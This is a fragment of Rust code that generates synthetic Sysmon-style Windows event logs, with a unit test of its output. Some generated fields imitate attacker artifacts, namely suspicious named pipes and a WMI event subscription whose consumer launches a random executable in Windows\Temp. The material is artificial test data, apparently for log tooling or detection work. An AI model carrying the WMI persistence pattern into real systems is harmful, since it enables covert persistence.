                9 => set(
                    &mut e,
                    "Device",
                    format!("\\Device\\HarddiskVolume{}", 1 + self.rng.below(4)),
                ),
                17 | 18 => {
                    set(
                        &mut e,
                        "EventType",
                        if code == 17 {
                            "CreatePipe"
                        } else {
                            "ConnectPipe"
                        },
                    );
                    set(
                        &mut e,
                        "PipeName",
                        format!(
                            "\\{}-{}",
                            pick(
                                &mut self.rng,
                                &[
                                    "mojo",
                                    "chrome.sync",
                                    "LOCAL\\crashpad",
                                    "PSHost",
                                    "msagent_"
                                ]
                            ),
                            hex(&mut self.rng, 8)
                        ),
                    );
                }
                19..=21 => {
                    set(&mut e, "Operation", "Created");
                    set(&mut e, "Name", format!("\"{}\"", hex(&mut self.rng, 8)));
                    set(&mut e, "Query", "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'");
                    set(
                        &mut e,
                        "Consumer",
                        format!(
                            "CommandLineEventConsumer.Name=\"{}\"",
                            hex(&mut self.rng, 6)
                        ),
                    );
                    set(
                        &mut e,
                        "Destination",
                        format!("C:\\Windows\\Temp\\{}.exe", hex(&mut self.rng, 6)),
                    );
                }
                4 | 16 => set(&mut e, "State", "Started"),
                _ => {}
            }
            events.push(e);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_code_and_values_rarely_repeat() {
        let mut g = Generator::new(3, 20, 0.03);
        let mut codes = std::collections::BTreeSet::new();
        let mut lines = std::collections::HashSet::new();
        let mut guids = std::collections::HashSet::new();
        let mut creations = 0;
        for _ in 0..40 {
            for e in g.block(100) {
                codes.insert(e.values[col("EventCode")].parse::<u32>().unwrap());
                if e.values[col("EventCode")] == "1" {
                    creations += 1;
                    lines.insert(e.values[col("CommandLine")].clone());
                    guids.insert(e.values[col("ProcessGuid")].clone());
                }
            }
        }
        assert_eq!(codes, (1..=29).collect(), "every EventCode");
        assert_eq!(guids.len(), creations, "fresh GUIDs");
        // Most command lines are unique (the repetitive generator has 15; here
        // the logon trees and a few fixed ones repeat: about 68% unique).
        assert!(
            lines.len() * 10 > creations * 6,
            "{} of {creations}",
            lines.len()
        );
    }
}
